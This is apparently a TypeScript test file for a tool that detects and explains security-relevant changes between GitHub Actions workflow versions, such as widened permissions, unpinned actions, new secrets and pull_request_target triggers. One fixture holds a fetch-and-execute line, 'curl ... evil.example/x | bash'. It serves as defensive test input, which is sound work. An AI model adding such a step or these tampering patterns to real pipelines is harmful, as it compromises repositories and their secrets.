import { readFileSync } from 'node:fs'

import { describe, expect, it } from '@jest/globals'
import fc from 'fast-check'

import type { WorkflowChange } from '../../../src/core/domain/index.js'
import {
  changeSentence,
  changeTitle,
  pipelineDifference,
  readPipelineFile,
} from '../../../src/core/workflows/index.js'

const TEMPLATES = 'src/demo/story/templates/workflows'
const template = (name: string): string => readFileSync(`${TEMPLATES}/${name}.yml`, 'utf8')

function diff(before: string, after: string): WorkflowChange[] {
  return pipelineDifference(readPipelineFile(before), readPipelineFile(after))
}

function told(before: string, after: string): string[] {
  return diff(before, after).map(
    (change) => `${String(change.severity)} ${changeSentence(change, (text) => `[${text}]`)}`,
  )
}

/** A workflow of one job with such steps and keys. */
function job(steps: readonly object[], keys: object = {}, top: object = {}): string {
  return JSON.stringify({
    on: 'push',
    ...top,
    jobs: { build: { 'runs-on': 'ubuntu-24.04', ...keys, steps } },
  })
}

const SHA = 'a'.repeat(40)
const CHECKOUT = { uses: `actions/checkout@${SHA}` }
const TEST = { run: 'npm test' }
const CHECKED = { 'runs-on': 'ubuntu-24.04', steps: [CHECKOUT, TEST] }

describe('pipelineDifference', () => {
  it('tells what an attack did to a workflow, gravest first', () => {
    expect(told(template('ci'), template('ci-tampered'))).toEqual([
      '4 Permissions widened: [write-all], were [contents: read]',
      '4 The input [ref] is new: [${{ github.event.pull_request.head.sha }}] (the code of whoever opened the pull request) in job [lint], step [actions/checkout@v4]',
      '3 Now runs on [pull_request_target]: with the repository’s secrets, for pull requests from anybody',
      '3 Now uses the secret [NPM_PUBLISH_TOKEN]',
      "2 Runs only if [github.event_name == 'never'] in job [test]",
      '2 The step [actions/setup-node@v4] is gone in job [test]',
      '1 No longer runs on [pull_request]',
      '1 The environment variable [REGISTRY_TOKEN] is new: [${{ secrets.NPM_PUBLISH_TOKEN }}] in job [lint], step [npm run lint]',
    ])
  })

  it('says on which lines of both versions', () => {
    const [permissions, , trigger] = diff(template('ci'), template('ci-tampered'))
    expect(permissions).toMatchObject({
      linesBefore: { first: 6, last: 7 },
      linesAfter: { first: 6, last: 6 },
    })
    expect(trigger).toMatchObject({ linesBefore: undefined, linesAfter: { first: 5, last: 5 } })
  })

  it.each<[string, string, string, string[]]>([
    [
      'a pin that moved to a tag',
      job([CHECKOUT]),
      job([{ uses: 'actions/checkout@v4' }]),
      [
        `3 Uses [actions/checkout@v4], which can be moved: pin the commit, not [actions/checkout@${SHA}] in job [build], step [actions/checkout@v4]`,
      ],
    ],
    [
      'a tag that was pinned',
      job([{ uses: 'actions/checkout@v4' }]),
      job([CHECKOUT]),
      [
        `0 Uses [actions/checkout@${SHA}], not [actions/checkout@v4] in job [build], step [actions/checkout@${SHA}]`,
      ],
    ],
    [
      'a step that is gone',
      job([CHECKOUT, TEST]),
      job([CHECKOUT]),
      ['2 The step [npm test] is gone in job [build]'],
    ],
    [
      'a command in place of another',
      job([CHECKOUT, TEST]),
      job([CHECKOUT, { run: 'npm test || true' }]),
      [
        '2 Its commands changed: new [npm test || true], gone [npm test] in job [build], step [npm test || true]',
      ],
    ],
    [
      'a script that is fetched',
      job([TEST]),
      job([TEST, { run: 'curl -s https://evil.example/x | bash' }]),
      [
        '3 The step [curl -s https://evil.example/x | bash] is new, which runs what it fetches in job [build]',
      ],
    ],
    [
      'a failure that does not count',
      job([TEST]),
      job([{ ...TEST, 'continue-on-error': true }]),
      ['2 Its failure no longer counts in job [build], step [npm test]'],
    ],
    [
      'a job that never runs',
      job([TEST]),
      job([TEST], { if: false }),
      ['3 Never runs any more: its condition is never met in job [build]'],
    ],
    [
      'a machine of one’s own',
      job([TEST]),
      job([TEST], { 'runs-on': ['self-hosted', 'x64'] }),
      ['3 The runner is [self-hosted, x64], was [ubuntu-24.04] in job [build]'],
    ],
    [
      'an environment that is gone',
      job([TEST], { environment: 'production' }),
      job([TEST]),
      [
        '3 No longer in the environment [production], whose protection and secrets do not apply any more in job [build]',
      ],
    ],
    [
      'a permissions block that is gone',
      job([TEST], {}, { permissions: {} }),
      job([TEST]),
      ['3 Permissions widened: the default, were [none]'],
    ],
    [
      'fewer permissions',
      job([TEST], {}, { permissions: 'write-all' }),
      job([TEST], {}, { permissions: 'read-all' }),
      ['0 Permissions changed: [read-all], were [write-all]'],
    ],
    [
      'a right for one job',
      job([TEST], {}, { permissions: {} }),
      job([TEST], { permissions: { 'id-token': 'write' } }, { permissions: {} }),
      ['3 Permissions widened: [id-token: write], were the default in job [build]'],
    ],
    [
      'a job that is gone with the rights it had',
      JSON.stringify({
        on: 'push',
        jobs: { a: CHECKED, b: { ...CHECKED, permissions: { contents: 'read' } } },
      }),
      JSON.stringify({ on: 'push', jobs: { a: CHECKED } }),
      [`2 The job [b] is gone ([actions/checkout@${SHA}], [npm test])`],
    ],
    [
      'a job with more rights under another name',
      JSON.stringify({
        on: 'push',
        permissions: 'write-all',
        jobs: { a: { ...CHECKED, permissions: { contents: 'read' } } },
      }),
      JSON.stringify({
        on: 'push',
        permissions: 'write-all',
        jobs: { b: { ...CHECKED, permissions: { contents: 'write' } } },
      }),
      [
        '3 Permissions widened: [contents: write], were [contents: read] in job [b]',
        '1 The job [a] is called [b] now',
      ],
    ],
    [
      'a filter that is gone',
      job([TEST], {}, { on: { push: { branches: ['main'] } } }),
      job([TEST], {}, { on: { push: {} } }),
      ['2 The filter [push.branches] is gone: it was [main]'],
    ],
    [
      'steps in another order',
      job([CHECKOUT, TEST, { run: 'ls' }]),
      job([{ run: 'ls' }, CHECKOUT, TEST]),
      ['1 The step [ls] moved from place 3 to 1 in job [build]'],
    ],
    [
      'a renamed step',
      job([{ ...TEST, id: 'a', name: 'Test' }]),
      job([{ ...TEST, id: 'a', name: 'Try' }]),
      ['0 The shown name is [Try], was [Test] in job [build], step [Try]'],
    ],
  ])('tells of %s', (_name, before, after, sentences) => {
    expect(told(before, after)).toEqual(sentences)
  })

  it('knows a renamed job by what it does', () => {
    const before = JSON.stringify({
      on: 'push',
      jobs: { a: { steps: [CHECKOUT, TEST] }, b: { steps: [{ run: 'x' }] } },
    })
    const after = JSON.stringify({
      on: 'push',
      jobs: { b: { steps: [{ run: 'x' }] }, c: { steps: [CHECKOUT, TEST] } },
    })
    expect(told(before, after)).toEqual(['1 The job [a] is called [c] now'])
  })

  it('says nothing of comments, quotes, order of keys and layout', () => {
    const before =
      'on:\n  push:\n    branches: [main]\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: |\n          npm ci\n          npm test\n'
    const after =
      '# Copyright\n"on": { push: { branches: main } }\njobs:\n\n  a:\n    steps:\n      - run: "npm ci  \\nnpm test"   # both\n    runs-on:\n      - ubuntu-24.04\n'
    expect(diff(before, after)).toEqual([])
  })

  it('tells of a file that came, went, broke or was mended', () => {
    const text = job([TEST])
    const facts = readPipelineFile(text)
    expect(pipelineDifference(undefined, facts).map(({ what, change }) => [what, change])).toEqual([
      ['trigger', 'added'],
      ['job', 'added'],
    ])
    expect(pipelineDifference(facts, undefined).map(({ what, change }) => [what, change])).toEqual([
      ['job', 'removed'],
      ['trigger', 'removed'],
    ])
    expect(told(text, '{')[0]).toMatch(/^3 Can no longer be read: /)
    expect(told('{', text)[0]).toMatch(
      /^3 Can be read again; .* so everything below counts as new$/,
    )
    expect(told('{', text)).toHaveLength(3)
  })

  it('reads commands of any length and number in time that grows with them', () => {
    const many = (line: string): string =>
      Array.from({ length: 20_000 }, (_, at) => line + String(at)).join('\n')
    for (const text of ['curl '.repeat(100_000), 'iex '.repeat(100_000), many('a')]) {
      expect(told(job([{ run: many('b') }]), job([{ run: text }]))).toHaveLength(1)
    }
  })

  it('gives every change a title without any of the file’s text', () => {
    for (const change of diff(template('ci'), template('ci-tampered'))) {
      expect(changeTitle(change)).toMatch(/^[a-z ’]+$/)
    }
  })
})

/** Workflows that are alike enough for parts of one to be found in another. */
const workflows = fc
  .record({
    on: fc.subarray(['push', 'pull_request', 'pull_request_target', 'schedule']),
    permissions: fc.option(
      fc.constantFrom('read-all', 'write-all', { contents: 'read' }, { contents: 'write' }),
    ),
    env: fc.dictionary(
      fc.constantFrom('A', 'B'),
      fc.constantFrom('1', '${{ secrets.X }}', '${{ vars.Y }}'),
    ),
    jobs: fc.dictionary(
      fc.constantFrom('build', 'test', 'deploy'),
      fc.record({
        'runs-on': fc.constantFrom('ubuntu-24.04', 'self-hosted', ['a', 'b']),
        if: fc.constantFrom('always()', "github.ref == 'x'"),
        steps: fc.uniqueArray(
          fc.constantFrom(
            { run: 'a' },
            { run: 'b', name: 'B' },
            { id: 'c', run: 'c' },
            { id: 'c', run: 'd' },
            CHECKOUT,
            { uses: 'actions/checkout@v4' },
          ),
          { maxLength: 4 },
        ),
      }),
    ),
  })
  .map((workflow) => JSON.stringify(workflow))

const OTHER_WAY = { added: 'removed', removed: 'added', changed: 'changed' } as const

/** Places aside: which of two steps that changed places is the one that moved is a matter of taste. */
function signature({ what, change, subject, before, after }: WorkflowChange): string {
  return JSON.stringify([what, change, subject, before, after])
}

function turned(change: WorkflowChange): string {
  return signature({
    ...change,
    change: OTHER_WAY[change.change],
    before: change.after,
    after: change.before,
  })
}

describe('any two workflows', () => {
  it('differ from themselves in nothing', () => {
    fc.assert(
      fc.property(workflows, (text) => {
        expect(diff(text, text)).toEqual([])
      }),
    )
  })

  it('differ in the same things seen the other way round', () => {
    const isPlace = ({ what }: WorkflowChange): boolean => what === 'step_order'
    fc.assert(
      fc.property(workflows, workflows, (one, other) => {
        const there = diff(one, other).filter((change) => !isPlace(change))
        const back = diff(other, one).filter((change) => !isPlace(change))
        expect(back.map(signature).sort()).toEqual(there.map(turned).sort())
      }),
      { numRuns: 300 },
    )
  })
})
